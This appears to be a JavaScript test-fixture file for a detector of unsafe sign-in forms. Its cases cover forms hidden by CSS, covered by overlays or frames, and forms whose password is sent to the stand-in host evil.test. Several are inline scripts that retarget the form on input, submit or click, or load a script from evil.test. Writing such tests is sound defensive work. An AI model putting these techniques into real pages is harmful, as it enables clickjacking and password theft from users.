/** Forms that cannot be seen, that something lies over, or that are sent elsewhere. */
import { form, html, quoted } from './page.mjs';

const COVER = 'position: fixed; inset: 0; width: 100%; height: 100%; z-index: 2147483647; margin: 0; border: 0; max-width: none; max-height: none';
const NOT_SEEN = /cannot be seen|No sign-in form|over the (sign-in )?form/;
const OVER = /over the (sign-in )?form|covers the form/;
const CHANGED = /form changed/;

/** @typedef {{what: string, told: RegExp, late?: boolean, half?: boolean, error?: string, todo?: string, body: string, pass?: string}} Case */

/** A5: something between the form and the person. @type {Record<string, Case>} */
const covered = {
	'a05-overlay': { what: 'a transparent layer over the form', told: OVER, body: `${form()}<div style="${COVER}"></div>` },
	'a05-picture': { what: 'a picture of another page over the form, which lets clicks through', told: OVER,
		body: `${form()}<div style="${COVER}; pointer-events: none; background: white"><h1>You have won</h1></div>` },
	'a05-inert': { what: 'a picture of another page over the form, which is inert', told: OVER,
		body: `${form()}<div style="${COVER}; background: white" inert><h1>You have won</h1></div>` },
	'a05-frame': { what: 'a frame of another host over the form', told: OVER, body: `${form()}<iframe src="https://evil.test/prize" style="${COVER}"></iframe>` },
	'a05-before': { what: 'a layer that is no element', told: OVER,
		body: `<style>body::before { content: ''; ${COVER}; background: white; }</style>${form()}` },
	'a05-popover': { what: 'a popover in the top layer', told: OVER,
		body: `${form()}<div popover="manual" style="${COVER}; opacity: 0.01">…</div><script>document.querySelector('[popover]').showPopover();</script>` },
	'a05-dialog': { what: 'a dialog in the top layer', told: OVER,
		body: `${form()}<dialog style="${COVER}"><h1>You have won</h1></dialog><script>document.querySelector('dialog').showModal();</script>` },
	'a05-field': { what: 'a field of the page’s over the password field alone', told: OVER,
		body: `<style>p { position: relative; } i { position: absolute; inset: 0; background: white; }</style>
${form().replace('<label>Password', '<i>Your age</i><label>Password')}` },
	'a05-just-before': { what: 'a layer that comes while the fields are filled', told: /came over the form|over the form/, late: true,
		body: `${form()}<div style="${COVER}" hidden></div>
<script>addEventListener('input', () => { document.querySelector('div').hidden = false; });</script>` },
};

/** @param {string} css @param {string} [field] of the password field; else of all of the form */
const styled = (css, field) => (field === undefined ? form({ style: css }) : form({}, { password: { style: field } }));

/** A5 and A6: a form that no person could see. @type {Record<string, Case>} */
const unseen = Object.fromEntries(Object.entries({
	'a05-clip': ['a form that is clipped away', styled('clip-path: inset(0 0 100% 0)')],
	'a05-polygon': ['a form that is clipped to a triangle of nothing', styled('clip-path: polygon(0 0, 0 0, 0 0)')],
	'a05-mask': ['a form behind a mask that lets nothing through', styled('mask-image: linear-gradient(transparent, transparent)')],
	'a05-blend': ['a form that is blended into the white of the page', `<style>html { background: white; }</style>${styled('mix-blend-mode: lighten')}`],
	'a05-moved': ['a form that is moved out of the page', styled('transform: translateX(-5000px)')],
	'a05-turned': ['a form that is turned until it has no width', styled('transform: rotateY(89.9deg)')],
	'a05-scaled': ['a form that is scaled to a dot', styled('transform: scale(0.01)')],
	'a06-opacity': ['a form without opacity', styled('opacity: 0')],
	'a06-ancestor': ['a form whose ancestors are each a little transparent',
		`<div style="opacity: 0.4"><div style="opacity: 0.4"><div style="opacity: 0.4">${form()}</div></div></div>`],
	'a06-filter': ['a form that a filter makes transparent', styled('filter: opacity(1%)')],
	'a06-tiny': ['fields of one pixel', form({}, {
		user: { style: 'width: 1px; height: 1px; padding: 0; border: 0' }, password: { style: 'width: 1px; height: 1px; padding: 0; border: 0' },
	})],
	'a06-password': ['a password field of one pixel below a user name that can be seen', styled('', 'width: 1px; height: 1px; padding: 0; border: 0'),
		{ half: true }],
	'a06-off-screen': ['a form left of the page', styled('position: absolute; left: -9999px')],
	'a06-right': ['a form that is fixed where nobody can scroll to', styled('position: fixed; left: 300vw; top: 0')],
	'a06-above': ['a form above the page', styled('position: absolute; top: -9999px')],
	'a06-visibility': ['a form that is there and hidden', styled('visibility: hidden')],
	'a06-display': ['a form that is not drawn', styled('display: none')],
	'a06-details': ['a form in what is folded', `<details><summary>Terms</summary>${form()}</details>`],
	'a06-skipped': ['a form whose content is skipped', styled('content-visibility: hidden; height: 200px')],
	'a06-overflow': ['a form in a box without height', `<div style="height: 0; overflow: hidden">${form()}</div>`],
}).map(([name, [what, body, more]]) => [name, /** @type {Case} */ ({ what, told: NOT_SEEN, body, .../** @type {object} */ (more) })]));

/** A7: a form that sends the password elsewhere, or into an address. @type {Record<string, Case>} */
const elsewhere = {
	'a07-action': { what: 'a form that is sent to another host', told: /evil\.test/, error: 'action_refused', body: form({ action: 'https://evil.test/in' }) },
	'a07-formaction': { what: 'a button that sends the form to another host', told: /evil\.test/, error: 'action_refused',
		body: form({}, { button: { formaction: 'https://evil.test/in' } }) },
	'a07-base': { what: 'a base address that leads the form to another host', told: /evil\.test/, error: 'action_refused',
		body: `<base href="https://evil.test/">${form({ action: 'in' })}` },
	'a07-look-alike': { what: 'a form that is sent to a look-alike', told: /right\.test\.evil\.test/, error: 'action_refused',
		body: form({ action: 'https://right.test.evil.test/in' }) },
	'a07-user-information': { what: 'a form whose address has the right host before an @', told: /evil\.test|address/,
		body: form({ action: 'https://right.test@evil.test/in' }) },
	'a07-port': { what: 'a form that is sent to another port', told: /8443/, body: form({ action: 'https://right.test:8443/in' }) },
	'a07-http': { what: 'a form that is sent without TLS', told: /HTTPS/, error: 'scheme_refused', body: form({ action: 'http://right.test/in' }) },
	'a07-javascript': { what: 'a form that goes to a script', told: /javascript/, error: 'scheme_refused', body: form({ action: 'javascript:void(0)' }) },
	'a07-data': { what: 'a form that goes to a data: address', told: /data:/, error: 'url_invalid',
		body: form({ action: quoted('data:text/html,<script src="https://evil.test/x.js"></script>') }) },
	'a07-get': { what: 'a form that puts the password into an address', told: /address/, error: 'method_refused', body: form({ method: 'get' }) },
	'a07-formmethod': { what: 'a button that puts the password into an address', told: /address/, error: 'method_refused',
		body: form({}, { button: { formmethod: 'get' } }) },
	'a07-on-input': { what: 'a form that is retargeted while it is filled', told: CHANGED, late: true,
		body: `${form()}<script>document.forms[0].addEventListener('input', (event) => { event.currentTarget.action = 'https://evil.test/in'; });</script>` },
	'a07-on-click': { what: 'a form that is retargeted by the click on its button', told: CHANGED, late: true,
		body: `${form()}<script>document.querySelector('button').addEventListener('click', () => { document.forms[0].action = 'https://evil.test/in'; });</script>` },
	'a07-on-submit': { what: 'a form that is retargeted while it is submitted', told: CHANGED, late: true,
		body: `${form()}<script>document.forms[0].addEventListener('submit', (event) => { event.currentTarget.action = 'https://evil.test/in'; });</script>` },
	'a07-on-formdata': { what: 'a form that turns to GET once its data is collected', told: CHANGED, late: true,
		body: `${form()}<script>document.forms[0].addEventListener('formdata', (event) => {
	Object.assign(event.currentTarget, { action: 'https://evil.test/in', method: 'get' });
});</script>` },
	'a07-on-mutation': { what: 'a page that puts another form around the filled fields', told: CHANGED, late: true,
		body: `${form()}<script>document.forms[0].addEventListener('change', (event) => {
	const other = document.createElement('form');
	Object.assign(other, { action: 'https://evil.test/in', method: 'post' });
	other.append(...event.currentTarget.childNodes);
	document.body.append(other);
}, { once: true });</script>` },
	'a07-pass': { what: 'a post that the right host passes on to another', told: /evil\.test/, late: true, pass: 'https://evil.test/in',
		body: form({ action: 'a07-pass' }) },
	'a07-window': { what: 'a button that posts into a new window, from where it is passed on', told: /evil\.test/, late: true, pass: 'https://evil.test/in',
		body: form({ action: 'a07-window' }, { button: { formtarget: '_blank' } }) },
	'a07-base-target': { what: 'a base that opens posts in a new window, from where they are passed on', told: /evil\.test/, late: true,
		pass: 'https://evil.test/in', body: `<base target="_blank">${form({ action: 'a07-base-target' })}` },
	'a07-inner': { what: 'a button that posts into a frame, from where it is passed on', told: /evil\.test/, late: true, pass: 'https://evil.test/in',
		body: `${form({ action: 'a07-inner' }, { button: { formtarget: 'inner' } })}<iframe name="inner"></iframe>` },
	'a07-empty-method': { what: 'a button whose method is none, which a browser takes for GET', told: /address/, error: 'method_refused',
		body: form({}, { button: { formmethod: '' } }) },
	'a07-late-target': { what: 'a form that is turned to a new window while it is submitted', told: CHANGED, late: true, pass: 'https://evil.test/in',
		body: `${form({ action: 'a07-late-target' })}<script>document.forms[0].addEventListener('submit', (event) => { event.currentTarget.target = '_blank'; });</script>` },
	'a07-late-button': { what: 'a click that presses another button, which posts into a new window', told: CHANGED, late: true, pass: 'https://evil.test/in',
		body: `${form({ action: 'a07-late-button' })}<script>document.querySelector('button').addEventListener('click', (event) => {
	event.preventDefault();
	const other = document.createElement('button');
	other.setAttribute('formtarget', '_blank');
	event.currentTarget.after(other);
	other.click();
}, { once: true });</script>` },
	'a07-link': { what: 'a link that sends the form into a new window by script', told: CHANGED, late: true, pass: 'https://evil.test/in',
		body: `${form({ action: 'a07-link' }).replace(/<button.*button>/, '<a href="#" role="button">Sign in</a>')}<script>
document.querySelector('a').addEventListener('click', () => {
	document.forms[0].target = '_blank';
	document.forms[0].submit();
});</script>` },
};

/** What lies over no field although it has its place there: as many sign-in pages have it. */
const decorated = `<style>
.blob, fieldset, .side { position: absolute; inset: 0; margin: 0; pointer-events: none; }
.blob { background: teal; }
.side { width: 40px; overflow: hidden; }
.side > i { position: absolute; width: 90vw; height: 90vh; background: teal; }
main, p { position: relative; }
label b { position: absolute; pointer-events: none; }
</style>
<div class="blob"></div>
<main>${form().replaceAll(/<input[^>]*>/g, '$&<fieldset></fieldset><b>☺</b>')}</main>
<div class="side"><i></i></div>`;

export const cases = { ...covered, ...unseen, ...elsewhere };

/** @type {Record<string, import('./page.mjs').Page>} */
export const pages = {
	...Object.fromEntries(Object.entries(cases).map(([name, { what, body, late, pass }]) => [name, { html: html(what, body, { spy: !late }), pass }])),
	decorated: { html: html('Decorated', decorated, { spy: false }) },
};
